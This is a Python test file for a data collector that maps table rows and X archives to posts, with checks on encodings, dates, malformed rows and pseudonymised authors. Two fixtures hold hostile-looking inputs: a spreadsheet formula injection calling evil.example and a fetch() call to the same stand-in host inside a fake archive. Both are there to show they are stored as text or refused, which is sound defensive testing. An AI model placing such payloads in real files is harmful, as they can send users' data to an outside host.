"""Rows of a table become posts, by a mapping that says what each column means."""

import json
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from marsad import preserve
from marsad.collect.table import Table
from marsad.errors import BadInput
from marsad.plugins import Gathered, Refused
from marsad.safeguards import PSEUDONYM
from marsad.testing import check_collector

FIXTURES = Path(__file__).parent / "fixtures" / "table"
ARCHIVE = FIXTURES / "x" / "data" / "tweets.js"
MAPPING = """
[columns]
text = "text"
id = "id"
time = "time"
place = "place"
[place]
platform = "Board"
"""
AT = "2024-03-03T10:00:00Z"


def table(folder, name, content, mapping=MAPPING):
    """A table with its mapping beside it."""
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    (folder / f"{name}.mapping.toml").write_text(mapping, encoding="utf-8")
    return path


def collected(path, since=""):
    return list(Table().collect(str(path), since))


def posts(path, since=""):
    return [item.post for item in collected(path, since) if isinstance(item, Gathered)]


def refused(path):
    return [item for item in collected(path) if isinstance(item, Refused)]


@pytest.mark.parametrize(
    "path", [FIXTURES / "notices.csv", FIXTURES / "4cat-telegram.csv", ARCHIVE]
)
def test_the_fixtures_keep_the_contract_of_a_collector(path):
    check_collector(Table(), str(path))


def test_a_csv_is_read_by_its_mapping():
    first, second, third = collected(FIXTURES / "notices.csv")
    assert first.post.posted_at == datetime(2024, 3, 3, 7, tzinfo=UTC)
    assert (first.place.id, first.place.kind) == ("town-board:town-notices", "group")
    assert (first.place.fiction, first.post.fiction) == (True, True)
    assert first.post.text == "افتتحت البلدية حديقة عامة جديدة"
    assert (second.post.native_id, second.place.name) == ("9" * 23, "library")
    assert second.post.text == "کل شہر میں\nکتابوں کا میلہ"
    assert third.post.native_id == "00000000000000000000023"
    assert third.post.text == '=HYPERLINK("http://evil.example/?"&A1)'


def test_a_table_of_4cat_is_known_by_its_header():
    first, second = collected(FIXTURES / "4cat-telegram.csv")
    assert (first.place.id, first.place.kind) == ("telegram:salwan_talk", "group")
    assert first.post.posted_at == datetime(2024, 3, 3, 10, tzinfo=UTC)
    assert first.post.forwarded_from.name == "Vorot Library"
    assert (second.post.native_id, second.post.reply_to, second.post.author) == ("12", "11", "501")


def test_the_posts_of_an_x_archive_are_the_account_s_own():
    items = collected(ARCHIVE)
    assert {item.place.id for item in items} == {"x:900000000000000001"}
    assert {(item.place.name, item.place.kind) for item in items} == {("salwan_gazette", "channel")}
    assert [item.post.native_id[-2:] for item in items] == ["11", "12", "13"]
    assert items[1].post.text == "القراءة & الكتابة"
    assert items[1].post.reply_to == "900000000000000011"
    assert items[2].post.forwarded_from.name == "vorot_library"


def test_persons_get_pseudonyms_before_anything_is_stored(store):
    for path in (ARCHIVE, FIXTURES / "4cat-telegram.csv"):
        collector = Table()
        capture = preserve.capture(store, collector, str(path))
        items = collector.collect(str(path), "")
        list(preserve.seal(store, collector, capture, items, capture.id))
    stored = list(store.posts())
    assert len(stored) == 5
    authors = [post.author for post in stored if post.author]
    forwards = [post.forwarded_from.name for post in stored if post.forwarded_from]
    assert len(authors) == len(forwards) == 2
    assert all(PSEUDONYM.fullmatch(name) for name in authors + forwards)


def test_a_table_is_sealed_with_its_mapping_and_adds_nothing_the_second_time(store):
    counts = []
    for _ in range(2):
        collector = Table()
        capture = preserve.capture(store, collector, str(FIXTURES / "notices.csv"))
        items = collector.collect(str(FIXTURES / "notices.csv"), "")
        counts += [
            (each.new, each.seen)
            for each in preserve.seal(store, collector, capture, items, capture.id)
        ]
    assert counts == [(3, 0), (0, 3)]
    assert len(capture.parts) == 2


@pytest.mark.parametrize(
    ("name", "encoding", "said"),
    [
        ("a.csv", "utf-8", ""),
        ("a.csv", "utf-8-sig", ""),
        ("a.csv", "utf-16", ""),
        ("a.csv", "windows-1256", "windows-1256"),
        ("a.csv", "utf-16-le", "utf-16-le"),
    ],
)
def test_encodings_are_told_by_their_mark_or_by_the_mapping(tmp_path, name, encoding, said):
    words = "الأخبار المحلية"
    content = f"id,time,place,text\n1,{AT},p,{words}\n".encode(encoding)
    mapping = f'encoding = "{said}"\n{MAPPING}' if said else MAPPING
    assert posts(table(tmp_path, name, content, mapping))[0].text == words


def test_rows_in_an_encoding_that_was_not_named_are_refused_and_not_garbled(tmp_path):
    good, bad = f"1,{AT},p,good\n".encode(), f"2,{AT},p,الأخبار\n".encode("windows-1256")
    path = table(tmp_path, "a.csv", b"id,time,place,text\n" + bad + good)
    assert [post.native_id for post in posts(path)] == ["1"]
    assert "name the encoding" in refused(path)[0].reason


SIGNS = [("a.csv", ","), ("a.csv", ";"), ("a.tsv", "\t"), ("a.tab", "\t")]


@pytest.mark.parametrize(("name", "sign"), SIGNS)
def test_the_delimiter_is_seen_in_the_header(tmp_path, name, sign):
    rows = [["id", "time", "place", "text"], ["1", AT, "p", "كلمة, كلمة; كلمة"]]
    quoted = "\n".join(sign.join(f'"{field}"' for field in row) for row in rows)
    assert posts(table(tmp_path, name, quoted))[0].text == "كلمة, كلمة; كلمة"


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (f"2,{AT},p", "it has 3 fields where the header has 4"),
        (f"2,{AT},p,text,more", "it has 5 fields where the header has 4"),
        ("2,2024-03-03 10:00,p,text", "has no zone"),
        ("2,yesterday,p,text", "is not of the format 'iso'"),
        ("2,,p,text", "is not of the format 'iso'"),
        (f",{AT},p,text", "it has no id"),
        (f"2,{AT},,text", "it has no place"),
        (f"{'2' * 501},{AT},p,text", "its id is longer than"),
        (f"2\u202e,{AT},p,text", "its id is longer than"),
        (f"2,{AT},p,{'a' * 140_000}", "field larger than field limit"),
        (f"2,{AT},p,{'a' * 1_100_000}", "its line is longer than"),
    ],
)
def test_a_bad_row_is_refused_and_the_rest_goes_on(tmp_path, row, reason):
    path = table(tmp_path, "a.csv", f"id,time,place,text\n1,{AT},p,a\n{row}\n3,{AT},p,c\n")
    assert [post.native_id for post in posts(path)] == ["1", "3"]
    (only,) = refused(path)
    assert reason in only.reason
    assert only.where == "a.csv, line 3"


def test_a_nul_byte_is_replaced_and_the_row_is_taken(tmp_path):
    path = table(tmp_path, "a.csv", f"id,time,place,text\n1,{AT},p,a\0b\n")
    assert posts(path)[0].text == "a\ufffdb"


def test_an_open_quotation_mark_costs_the_rows_it_swallows_and_no_more(tmp_path):
    rows = "".join(f"{n},{AT},p,word\n" for n in range(20_000))
    path = table(tmp_path, "a.csv", f'id,time,place,text\n1,{AT},p,"open\n{rows}')
    assert len(posts(path)) > 10_000
    assert "field limit" in refused(path)[0].reason


ZONES = [
    ('format = "unix"', "1709460000"),
    ('format = "unix-ms"', "1709460000000"),
    ('format = "%d/%m/%Y %H:%M"\nzone = "Asia/Amman"', "03/03/2024 13:00"),
    ('format = "%d/%m/%Y %H:%M %z"', "03/03/2024 11:00 +0100"),
    ('zone = "Asia/Amman"', "2024-03-03T13:00:00"),
    ('zone = "Asia/Amman"', AT),
]


@pytest.mark.parametrize(("time", "said"), ZONES)
def test_a_time_is_read_by_its_format_and_zone(tmp_path, time, said):
    path = table(
        tmp_path, "a.csv", f"id,time,place,text\n1,{said},p,a\n", f"{MAPPING}[time]\n{time}"
    )
    assert posts(path)[0].posted_at == datetime(2024, 3, 3, 10, tzinfo=UTC)


@pytest.mark.parametrize("said", ["2024-10-27T02:30:00", "2024-03-31T02:30:00"])
def test_an_hour_that_came_twice_or_never_is_refused(tmp_path, said):
    mapping = f'{MAPPING}[time]\nzone = "Europe/Vienna"'
    path = table(tmp_path, "a.csv", f"id,time,place,text\n1,{said},p,a\n2,{AT},p,b\n", mapping)
    assert "changed clocks" in refused(path)[0].reason


BAD = [
    ("", "names no column for text"),
    ("[columns]\ntext = 1", "no list of names"),
    ("[columns", "cannot be read"),
    (MAPPING.replace('place = "place"', ""), "names no place"),
    (MAPPING.replace('platform = "Board"', ""), "names no platform"),
    (MAPPING + 'kind = "public"', "is none of channel, group, private"),
    (MAPPING + '[time]\nzone = "Mars"', "zone 'Mars' is not known"),
    (MAPPING + "[colour]\n", "has no place for 'colour'"),
    (MAPPING.replace('"text"\n', '"words"\n'), "has no column 'words' for text"),
    ('encoding = "klingon"\n' + MAPPING, "encoding 'klingon' is not known"),
    ('delimiter = "::"\n' + MAPPING, "more than one sign"),
]


@pytest.mark.parametrize(("mapping", "reason"), BAD)
def test_a_mapping_that_cannot_be_used_says_why(tmp_path, mapping, reason):
    path = table(tmp_path, "a.csv", f"id,time,place,text\n1,{AT},p,a\n", mapping)
    with pytest.raises(BadInput, match=reason.replace("[", "\\[")):
        collected(path)


def test_a_table_of_unknown_columns_asks_for_a_mapping_and_names_them(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("nr,when,what\n1,today,x\n")
    with pytest.raises(BadInput, match=r"write a.csv.mapping.toml beside it.*nr, when, what"):
        collected(path)


def test_a_mapping_may_stand_for_every_table_of_its_folder_and_name_one_place(tmp_path):
    said = MAPPING.replace('place = "place"\n', "") + 'id = "9"\nname = "لوحة"\nkind = "channel"\n'
    (tmp_path / "mapping.toml").write_text(said, encoding="utf-8")
    (tmp_path / "a.csv").write_text(f"id,time,text\n1,{AT},a\n")
    (item,) = collected(tmp_path / "a.csv")
    assert (item.place.id, item.place.name, item.place.kind) == ("board:9", "لوحة", "channel")


def lines(*rows):
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


def test_json_lines_are_read_with_names_that_lead_inside(tmp_path):
    row = {"post": {"id": 12345678901234567890123, "at": AT, "by": {"name": "x"}}, "text": "خبر"}
    mapping = MAPPING.replace('"id"', '"post.id"').replace('"time"', '"post.at"')
    mapping = mapping.replace('"place"', '"post.by.name"')
    for name in ("a.jsonl", "a.ndjson"):
        (post,) = posts(table(tmp_path, name, "\ufeff" + lines(row), mapping))
        assert (post.native_id, post.text) == ("12345678901234567890123", "خبر")


@pytest.mark.parametrize(
    "line",
    [
        "[1]",
        "{",
        '{"id": NaN}',
        f'{{"id": 1e30, "time": "{AT}", "place": "p"}}',
        "\udcff",
        "[" * 100_000,
        f'{{"id": "2", "time": "{AT}", "place": "p", "text": ["a"]}}',
        f'{{"id": "2", "time": "{AT}", "place": "p", "text": "\\ud800"}}',
        '{"id": "' + "a" * (9 << 20) + '"}',
    ],
    ids=["list", "open", "nan", "fraction", "bytes", "deep", "no words", "half a pair", "long"],
)
def test_a_bad_line_of_json_is_refused_and_the_rest_goes_on(tmp_path, line):
    good = lines({"id": "1", "time": AT, "place": "p", "text": "a"})
    content = good.encode() + line.encode("utf-8", "surrogateescape") + b"\n" + good.encode()
    path = table(tmp_path, "a.jsonl", content)
    assert len(posts(path)) == 2
    assert [item.where for item in refused(path)] == ["a.jsonl, line 2"]


def test_parquet_is_read_when_its_library_is_there(tmp_path):
    pyarrow = pytest.importorskip("pyarrow")
    from pyarrow import parquet

    at = datetime(2024, 3, 3, 10, tzinfo=UTC)
    columns = {
        "id": [2**62, 1],
        "time": pyarrow.array([at, at], pyarrow.timestamp("us", "UTC")),
        "place": ["p", "p"],
        "text": ["خبر", None],
    }
    path = table(tmp_path, "a.parquet", b"")
    parquet.write_table(pyarrow.table(columns), path)
    check_collector(Table(), str(path))
    assert [(post.native_id, post.text) for post in posts(path)] == [(str(2**62), "خبر"), ("1", "")]
    path.write_bytes(path.read_bytes()[:-20])
    with pytest.raises(BadInput, match="cannot be read on at row 1"):
        collected(path)


ACCOUNT = 'window.YTD.account.part0 = [{"account": {"username": "a", "accountId": "1"}}];'


@pytest.mark.parametrize("end", ["", ";", "\n;\n"])
def test_an_x_archive_may_end_its_statement(tmp_path, end):
    (tmp_path / "account.js").write_text(ACCOUNT)
    path = tmp_path / "tweet.js"
    array = ARCHIVE.read_bytes().partition(b"= ")[2]
    path.write_bytes(b"window.YTD.tweet.part0 = " + array + end.encode())
    assert Table().accepts(str(path))
    assert len(posts(path)) == 3


def test_an_x_archive_that_breaks_off_gives_its_whole_posts_and_says_so(tmp_path):
    (tmp_path / "account.js").write_text(ACCOUNT)
    path = tmp_path / "tweets.js"
    path.write_bytes(ARCHIVE.read_bytes()[:-100])
    items = Table().collect(str(path), "")
    found = [next(items), next(items)]
    with pytest.raises(BadInput, match="cannot be read on after post 2"):
        next(items)
    assert [item.post.native_id[-2:] for item in found] == ["12", "13"]


def test_an_x_archive_without_its_account_or_with_a_program_in_it_is_refused(tmp_path):
    path = tmp_path / "tweets.js"
    path.write_bytes(ARCHIVE.read_bytes())
    with pytest.raises(BadInput, match="whose they are"):
        collected(path)
    (tmp_path / "account.js").write_text(ACCOUNT)
    path.write_text("window.YTD.tweets.part0 = [fetch('http://evil.example/')]")
    with pytest.raises(BadInput, match="cannot be read on"):
        collected(path)
    path.write_text("alert(1)")
    assert not Table().accepts(str(path))


@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=40), min_size=1, max_size=9)
)
@settings(
    max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None
)
def test_text_in_any_script_comes_through_as_it_stands(tmp_path, texts):
    path = tmp_path / "a.jsonl"
    rows = ({"id": str(n), "time": AT, "place": "p", "text": text} for n, text in enumerate(texts))
    table(tmp_path, path.name, lines(*rows))
    assert [post.text for post in posts(path)] == [text.replace("\0", "\ufffd") for text in texts]


def test_a_checkpoint_counts_for_the_same_table_and_mapping_only(tmp_path):
    rows = f"id,time,place,text\n1,{AT},p,a\n2,{AT},p,b\n"
    path = table(tmp_path, "a.csv", rows)
    last = collected(path)[-1].checkpoint
    assert posts(path, last) == []
    table(tmp_path, "a.csv", rows, MAPPING + 'kind = "channel"\n')
    assert len(posts(path, last)) == len(posts(path, "nonsense")) == 2


@pytest.mark.parametrize("origin", ["", "no such.csv", "/", "a\0b", "https://example.org/a.csv"])
def test_other_origins_are_not_accepted(origin):
    assert Table().accepts(origin) is False
    with pytest.raises(BadInput):
        Table().originals(origin)


@pytest.mark.slow
def test_a_table_of_100_mb_is_read_in_less_than_100_mb(tmp_path):
    path = table(tmp_path, "a.csv", "id,time,place,text\n")
    words = "افتتحت البلدية حديقة عامة جديدة في وسط المدينة " * 5
    with path.open("a", encoding="utf-8") as file:
        number = 0
        while file.tell() < 100 << 20:
            file.writelines(
                f"{n},{1709460000 - n},p,{words}\n" for n in range(number, number + 5000)
            )
            number += 5000
    (tmp_path / "a.csv.mapping.toml").write_text(MAPPING + '[time]\nformat = "unix"\n')
    code = (
        "import sys; from marsad.collect.table import Table\n"
        "count = sum(1 for _ in Table().collect(sys.argv[1], ''))\n"
        "most = [l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0]\n"
        "sys.stdout.write(f'{count} {most}')"
    )
    command = [sys.executable, "-c", code, str(path)]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    count, most = map(int, done.stdout.split())
    assert count == number
    assert most < 100_000, "kilobytes"
